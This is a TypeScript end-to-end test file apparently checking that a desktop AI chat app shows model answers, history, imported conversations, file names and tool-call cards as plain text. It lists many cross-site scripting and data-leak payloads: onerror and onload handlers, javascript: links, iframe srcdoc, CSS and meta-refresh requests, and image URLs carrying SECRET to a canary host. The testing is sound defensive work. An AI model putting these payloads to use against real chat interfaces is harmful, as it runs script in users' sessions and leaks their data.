import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { expect, onTestFinished, test } from "vitest";
import { ask } from "../e2e/helpers/ask.ts";
import { openCard, readInChat } from "../e2e/helpers/cards.ts";
import { obeyingModel } from "../e2e/helpers/obeying-model.ts";
import { seedConversation } from "../e2e/helpers/seed-conversation.ts";
import { takeScreens } from "../e2e/screens.ts";
import { startSteward, type StewardApp } from "../e2e/steward-app.ts";
import { scriptedEndpoint } from "../helpers/scripted-endpoint.ts";
import { temporaryFolder } from "../helpers/temporary-folder.ts";
import { type Canary, seenIn, startCanary, watchFor } from "./desktop-world.ts";

/**
 * Attacks 1, 2, 5 and 9: text that would become script, elements or requests where it is shown: streamed and cut at every
 * byte, from history, imported, found, in files, in results and in names. Besides the mark and the requests, the document
 * itself is watched at every change: the policy for content would stop what is in it, so that alone would prove nothing.
 */

const rest = { folder: null, hosts: null, folders: null, reason: null, timeoutSeconds: null };

/** Runs where anything runs, without a blank or a double quote in it. */
const script = ({ host }: Canary): string => `window.wasRun=fetch('http://${host}/ran')`;

function streamed(canary: Canary): string[] {
  const run = script(canary);
  return [
    `![" onerror="${run}](x)`,
    `![x](x" onerror="${run})`,
    `![x]("onerror="${run}")`,
    `<img src=x onerror=${run}>`,
    `![a](http://${canary.host}/?q=SECRET)`,
    `[a](javascript:${run})`,
    `![x](data:image/svg+xml,<svg onload=${run}>)`,
  ];
}

function kept(canary: Canary): string[] {
  const run = script(canary);
  const { host } = canary;
  return [
    ...streamed(canary),
    `<script>${run}</script>`,
    `text <svg/onload=${run}> text`,
    `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
    `<details open ontoggle=${run}><summary>x</summary></details>`,
    `<form action="javascript:${run}"><button>x</button></form>`,
    `<style>@import "http://${host}/x";body{background:url(http://${host}/x)}</style>`,
    `<link rel=prefetch href=http://${host}/x><meta http-equiv=refresh content="0;url=http://${host}/x"><base href=http://${host}/>`,
    `- <div\n  onclick="${run}"\n  style="background:url(http://${host}/x)">x</div>`,
    `| <img src=x onerror=${run}> |\n|---|\n| <object data="http://${host}/x"> |`,
    `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=${run}>"]; click A call ${run}\n\`\`\``,
    `\`\`\`svg\n<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><image href="http://${host}/x"/></svg>\n\`\`\``,
    `\`\`\`html\n<!doctype html><body onload="${run}"><img src="http://${host}/x">\n\`\`\``,
    String.raw`$\href{javascript:${run}}{x}$ $\includegraphics{http://${host}/x}$ $$\htmlStyle{background:url(http://${host}/x)}{x}$$`,
    `[![a](http://${host}/i.png?q=SECRET)](http://${host}/?q=SECRET) ![a][x]\n\n[x]: http://${host}/?q=SECRET`,
    `[^a]\n\n[^a]: <img src=x onerror=${run}>`,
  ];
}

/** Fails unless nothing was ever there; then shows that what watches would have seen it. */
async function expectNothing({ page, complaints }: StewardApp, { reached }: Canary): Promise<void> {
  expect(await seenIn(page)).toEqual({ seen: [], wasRun: null });
  expect({ complaints, reached }).toEqual({ complaints: [], reached: [] });
  await page.evaluate("document.body.insertAdjacentHTML('beforeend', '<p><img onerror=1 src=data:x></p>')");
  await expect
    .poll(async () => (await seenIn(page)).seen.toSorted())
    .toEqual(["<img>", "img onerror", "img src", "src=data:x"]);
  complaints.length = 0;
}

test("attack 1: what is streamed, cut at every character and drawn each time, stays text; so it does after a restart", async () => {
  const canary = await startCanary();
  const text = `${streamed(canary).join("\n\n")}\n\nThe end`;
  const until = Promise.withResolvers<(length: number) => Promise<unknown>>();
  const endpoint = await scriptedEndpoint([
    {
      text,
      chunkSize: 1,
      // Each piece goes out when the one before it was drawn. The first is only the role.
      beforeChunk: async (sent) => void (await (await until.promise)(Math.min(sent - 1, text.length))),
    },
  ]);
  const first = await startSteward({ settings: { model: "scripted", baseUrl: endpoint.baseUrl } });
  const { page } = first;
  await watchFor(page);
  await page.evaluate(`(() => {
    let heard = 0;
    steward.on((push) => {
      if (push.type === "turn-events") for (const event of push.events) if (event.type === "text.delta") heard += event.text.length;
    });
    window.drawn = (length) => new Promise((done) => {
      const look = () => (heard >= length ? requestAnimationFrame(done) : requestAnimationFrame(look));
      look();
    });
  })()`);
  until.resolve((length) => page.evaluate(`drawn(${length})`));
  await ask(first, "Go on");
  await page.getByRole("feed").getByText("The end", { exact: true }).waitFor({ timeout: 90_000 });
  await page.getByRole("button", { name: "Send", exact: true }).waitFor();
  await takeScreens(first.desktop, page, "attack-streamed");
  await expectNothing(first, canary);
  await first.end();

  const second = await startSteward({ home: first.home });
  await watchFor(second.page);
  await second.page.getByRole("navigation", { name: "Conversations" }).getByRole("button").first().click();
  await readInChat(second, "The end");
  await expectNothing(second, canary);
  await second.end();
}, 180_000);

test("attack 1: a stream cut at every byte of the wire, in the middle of letters too", async () => {
  const canary = await startCanary();
  const text = `é漢😀 ![" onerror="${script(canary)}](x) the end`;
  const chunk = JSON.stringify({
    id: "c",
    object: "chat.completion.chunk",
    created: 1,
    model: "scripted",
    choices: [{ index: 0, delta: { content: text }, finish_reason: "stop" }],
  });
  const body = Buffer.from(`data: ${chunk}\n\ndata: [DONE]\n\n`);
  const cuts = Array.from({ length: body.length - 1 }, (_, index) => index + 1);
  const endpoint = await scriptedEndpoint([{ body, cuts }]);
  const app = await startSteward({ settings: { model: "scripted", baseUrl: endpoint.baseUrl } });
  await watchFor(app.page);
  await ask(app, "Go on");
  await app.page.getByRole("feed").getByText("é漢😀").first().waitFor();
  await app.page.getByRole("feed").getByText("the end").first().waitFor();
  await expectNothing(app, canary);
  await app.end();
});

test("attacks 1, 2, 5, 9: prompts, answers and titles from history, from an import and from a search stay text", async () => {
  const canary = await startCanary();
  const texts = kept(canary);
  const of = (turn: number): string => texts[turn % texts.length] ?? "";
  const app = await startSteward({
    files: {},
    async prepare(data) {
      await seedConversation(data, { turns: texts.length, prompt: of, answer: of, callEvery: 5 });
    },
  });
  const { desktop, page } = app;
  await watchFor(page);
  for (const turn of texts.keys()) {
    await page.evaluate(
      `steward.call("window.go", { view: "chat", conversationId: "seeded", turnId: "seeded-turn-${turn}" })`,
    );
    await page
      .getByRole("feed")
      .getByLabel(`Message ${turn + 1}`, { exact: true })
      .waitFor();
  }
  await takeScreens(desktop, page, "attack-history");
  for (const title of [texts[0], texts[7], `<img src=x onerror=${script(canary)}>`])
    await page.evaluate(
      `steward.call("conversation.rename", ${JSON.stringify({ conversationId: "seeded", title })})`,
    );
  const list = page.getByRole("navigation", { name: "Conversations" });
  await list.getByText("<img src=x").first().waitFor();

  const file = join(temporaryFolder(), "conversation.json");
  const turns = texts.map((text) => ({
    at: "2026-11-22T09:00:00.000Z",
    model: text,
    prompt: text,
    answer: text,
    attachments: [{ name: text.slice(0, 200), text }],
  }));
  writeFileSync(file, JSON.stringify({ format: "steward-conversation", version: 1, title: texts[7], turns }));
  const importing = page.evaluate<{ value: { conversationId: string } }>(
    "steward.call('conversation.import', {})",
  );
  await desktop.dialogs.choose(await desktop.dialogs.nextOpen(), [file]);
  const { conversationId } = (await importing).value;
  await page.evaluate(`steward.call("window.go", ${JSON.stringify({ view: "chat", conversationId })})`);
  await page.getByRole("feed").getByLabel(`Message ${texts.length}`, { exact: true }).waitFor();

  await page.evaluate(`steward.call("window.go", { view: "search" })`);
  await page.getByRole("dialog").getByRole("combobox").fill("wasRun");
  await page.getByRole("dialog").getByRole("option").first().waitFor();
  await page.keyboard.press("Escape");
  await page.evaluate(`steward.call("window.go", { view: "activity" })`);
  await page.getByRole("main").getByText("A conversation was named").first().waitFor();
  await takeScreens(desktop, page, "attack-activity");
  await expectNothing(app, canary);
  await app.end();
}, 180_000);

test("attacks 2 and 5: HTML and SVG of files, of commands, of names and of changes stay text on every card", async () => {
  const canary = await startCanary();
  const html = kept(canary).join("\n");
  const name = "<img src=x onerror=window.wasRun=1>.md";
  const orders = [
    { name: "read_file", arguments: { path: "page.html", offset: null, limit: null } },
    { name: "write_file", arguments: { path: "copy.svg", content: html } },
    { name: "edit_file", arguments: { path: name, oldText: "one", newText: html, replaceAll: null } },
    { name: "run_command", arguments: { command: "cat page.html; ls; cp page.html other.html", ...rest } },
  ];
  const model = await obeyingModel({ "Look at all": orders });
  const app = await startSteward({ files: { "page.html": html, [name]: "one\n" }, settings: model.settings });
  onTestFinished(() => undefined);
  const { desktop, page } = app;
  await watchFor(page);
  await ask(app, "Look at all");
  await readInChat(app, "Done.");
  expect(model.toldOf(0)).toContain("onerror");
  const cards = page
    .getByRole("feed")
    .getByRole("article")
    .filter({ has: page.locator("button[aria-expanded]") });
  const titles = await page.getByRole("feed").getByRole("article").count();
  expect(titles).toBeGreaterThanOrEqual(orders.length);
  for (const card of await cards.all()) await openCard(card);
  await page.getByText("onerror", { exact: false }).first().waitFor();
  await takeScreens(desktop, page, "attack-cards");
  await page.evaluate(`steward.call("window.go", { view: "activity" })`);
  await page.getByRole("main").getByText("copy.svg").first().waitFor();
  await expectNothing(app, canary);
  await app.end();
}, 120_000);
